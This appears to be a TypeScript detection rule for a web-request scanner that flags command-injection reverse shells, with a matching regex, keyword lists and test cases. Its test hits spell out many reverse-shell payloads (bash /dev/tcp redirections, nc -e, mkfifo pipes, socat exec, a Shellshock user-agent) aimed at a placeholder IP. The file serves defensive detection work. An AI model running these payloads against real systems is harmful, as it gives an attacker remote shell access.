import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cmdi/reverse-shell',
  title: 'Reverse shell',
  why: 'Makes the server open a connection to the attacker and hand it a shell.',
  ja: {
    title: 'リバースシェル',
    why: 'サーバーから攻撃者へ接続させ、シェルの操作権を渡そうとしています。',
  },
  severity: 'critical',
  stage: 'execute',
  attack: ['T1059.004', 'T1071'],
  cwe: [78],
  refs: [
    'https://attack.mitre.org/techniques/T1059/004/',
    'https://owasp.org/www-community/attacks/Command_Injection',
  ],

  where: ['path', 'query', 'referrer', 'agent', 'user'],
  needs: [
    [
      '/dev/tcp/',
      '/dev/udp/',
      'mkfifo ',
      'nc -',
      '-e /bin',
      '-e sh',
      '-e bash',
      '-e cmd',
      '-c /bin',
      '-c sh',
      '-c bash',
      'ncat -',
      'netcat -',
      'sh -i',
      'socket.socket',
      'fsockopen',
      'io::socket',
      'use socket',
      'pty.spawn',
      'tcpsocket.',
      'telnet ',
      'socat ',
    ],
  ],
  match:
    /\/dev\/(?:tcp|udp)\/[\w.$-]{1,60}\/\d|\bmkfifo\s+\/|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional)?\s+(?:[^\n;|]{0,60}\s)?-[a-z]{0,5}[ec]\s\S|\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,10}(?:[<>&|]|$)|\bsocket\.socket\(|\bfsockopen\(|IO::Socket::INET|\buse\s+Socket\b|\bpty\.spawn\(|\bTCPSocket\.(?:new|open)\b|\btelnet\s+[\w.-]{4,60}\s+\d{2,5}\s?\||\bsocat\s[^\n]{0,80}\bexec:/i,

  hits: [
    'GET /a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261 HTTP/1.1',
    'GET /a?x=rm+/tmp/f;mkfifo+/tmp/f;cat+/tmp/f|sh HTTP/1.1',
    'GET /a?x=nc+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
    "GET /a?x=python+-c+'import+socket;s=socket.socket()' HTTP/1.1",
    { request: 'GET / HTTP/1.1', agent: '() { :;}; /bin/bash -i > /dev/tcp/203.0.113.9/80' },
    'GET /a?x=ncat+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
    'GET /a?x=netcat+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
    'GET /;bash%20-i%20>&%20/dev/tcp/203.0.113.9/4444%200>&1 HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer: 'https://www.example.com/a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261',
    },
    { request: 'GET / HTTP/1.1', user: ';bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
    'GET /a?x=cat+/dev/tcp/203.0.113.9/4444 HTTP/1.1',
    'GET /a?x=cat+/dev/udp/203.0.113.9/53 HTTP/1.1',
    ...each(
      'GET /a?x={} HTTP/1.1',
      `bash+-i+>%26+a zsh+-i ksh+-i+|a sh+-i fsockopen('203.0.113.9',4444) IO::Socket::INET->new
    perl+-e+'use+Socket;' pty.spawn('/bin/sh') TCPSocket.new('203.0.113.9',4444) TCPSocket.open('203.0.113.9',4444)
    telnet+203.0.113.9+4444+|+sh socat+tcp:203.0.113.9:4444+exec:sh`,
    ),
    'GET /a?x=nc.exe+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
    'GET /a?x=nc.traditional+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
    ...each(
      'GET /a?x=nc+203.0.113.9+4444+{} HTTP/1.1',
      '-e+sh -e+bash -e+cmd.exe -c+/bin/sh -c+sh -c+bash',
    ),
    ...each('GET /a?x={}+-lvpe+a+4444 HTTP/1.1', 'nc ncat netcat'),
  ],
  misses: [
    'GET /docs/python/socket.socketpair HTTP/1.1',
    'GET /blog/what-is-dev-tcp?ref=/dev/tcp HTTP/1.1',
    'GET /a?code=abc-nc+-12 HTTP/1.1',
    {
      message:
        'upstream timed out, request: "GET /a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261 HTTP/1.1"',
    },
    'GET /a?x=rm+/tmp/f;mymkfifo+/tmp/f;cat+/tmp/f|sh HTTP/1.1',
    'GET /a?x=mync+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
    'GET /a?x=mybash+-i+>%26+a HTTP/1.1',
    'GET /a?x=bash+-is+>%26+a HTTP/1.1',
    "GET /a?x=python+-c+'import+socket;s=mysocket.socket()' HTTP/1.1",
    "GET /a?x=myfsockopen('203.0.113.9',4444) HTTP/1.1",
    "GET /a?x=perl+-e+'myuse+Socket;' HTTP/1.1",
    "GET /a?x=perl+-e+'use+Sockets;' HTTP/1.1",
    "GET /a?x=mypty.spawn('/bin/sh') HTTP/1.1",
    "GET /a?x=myTCPSocket.new('203.0.113.9',4444) HTTP/1.1",
    "GET /a?x=TCPSocket.news('203.0.113.9',4444) HTTP/1.1",
    'GET /a?x=mytelnet+203.0.113.9+4444+|+sh HTTP/1.1',
    'GET /a?x=mysocat+tcp:203.0.113.9:4444+exec:sh HTTP/1.1',
    'GET /a?x=socat+tcp:203.0.113.9:4444+myexec:sh HTTP/1.1',
  ],
})
